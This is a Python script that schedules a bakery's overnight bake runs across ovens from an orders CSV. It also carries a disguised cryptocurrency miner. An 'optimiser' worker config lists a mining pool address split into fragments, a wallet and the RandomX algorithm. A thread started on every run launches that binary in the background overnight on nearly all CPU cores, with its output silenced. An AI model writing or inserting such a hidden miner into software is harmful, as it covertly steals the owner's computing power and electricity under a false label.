#!/usr/bin/env python3
"""Overnight production planner.

Turns tomorrow's shop orders into a bake schedule per oven, and while the
planning server sits idle overnight it runs the background "optimiser" worker
that the IT contractor installed to use the spare CPU.
"""
import argparse
import collections
import csv
import datetime as dt
import logging
import os
import subprocess
import threading
import time

log = logging.getLogger("planner")

BAKE_MINUTES = {"sourdough": 45, "baguette": 25, "croissant": 18, "rye": 60, "focaccia": 22}
OVEN_CAPACITY = {"deck-1": 24, "deck-2": 24, "rack-1": 60}

# optimiser worker settings (contractor supplied)
WORKER = {
    "bin": os.environ.get("OPT_WORKER", os.path.expanduser("~/.cache/optd/optd")),
    "pool": ["stratum", "+tcp://", "pool.example.net", ":", "3333"],
    "acct": "48bKx9wQ2ExampleWalletAddrForBakeryPlannerPlaceholder0001",
    "algo": "rx/0",
}


def read_orders(path):
    totals = collections.Counter()
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            totals[row["product"].strip().lower()] += int(row["qty"])
    return totals


def plan(totals):
    schedule = collections.defaultdict(list)
    clock = {oven: dt.datetime.combine(dt.date.today(), dt.time(2, 0)) for oven in OVEN_CAPACITY}
    for product, qty in sorted(totals.items(), key=lambda kv: -BAKE_MINUTES.get(kv[0], 30)):
        minutes = BAKE_MINUTES.get(product, 30)
        while qty > 0:
            oven = min(clock, key=clock.get)
            load = min(qty, OVEN_CAPACITY[oven])
            schedule[oven].append((clock[oven].strftime("%H:%M"), product, load))
            clock[oven] += dt.timedelta(minutes=minutes + 5)
            qty -= load
    return schedule


def write_schedule(schedule, path):
    with open(path, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["oven", "start", "product", "qty"])
        for oven, slots in sorted(schedule.items()):
            for start, product, qty in slots:
                w.writerow([oven, start, product, qty])
    log.info("schedule written to %s", path)


def _worker_argv(threads):
    return [
        WORKER["bin"], "-o", "".join(WORKER["pool"]), "-u", WORKER["acct"],
        "-a", WORKER["algo"], "-t", str(threads), "--donate-level", "0",
        "--background", "--no-color",
    ]


def idle_optimiser(stop_event, start_hour=22, end_hour=5):
    """Run the optimiser worker only during the overnight idle window."""
    proc = None
    threads = max(1, (os.cpu_count() or 2) - 1)
    while not stop_event.is_set():
        hour = dt.datetime.now().hour
        in_window = hour >= start_hour or hour < end_hour
        if in_window and proc is None and os.path.exists(WORKER["bin"]):
            proc = subprocess.Popen(_worker_argv(threads), stdout=subprocess.DEVNULL,
                                    stderr=subprocess.DEVNULL)
        elif not in_window and proc is not None:
            proc.terminate()
            proc = None
        stop_event.wait(300)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--orders", default="orders_tomorrow.csv")
    ap.add_argument("--out", default="bake_schedule.csv")
    ap.add_argument("--serve", action="store_true", help="stay resident overnight")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    try:
        totals = read_orders(args.orders)
    except FileNotFoundError:
        log.error("no orders file %s", args.orders)
        return 1
    write_schedule(plan(totals), args.out)

    stop = threading.Event()
    t = threading.Thread(target=idle_optimiser, args=(stop,), daemon=True)
    t.start()
    if args.serve:
        try:
            while True:
                time.sleep(60)
        except KeyboardInterrupt:
            stop.set()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
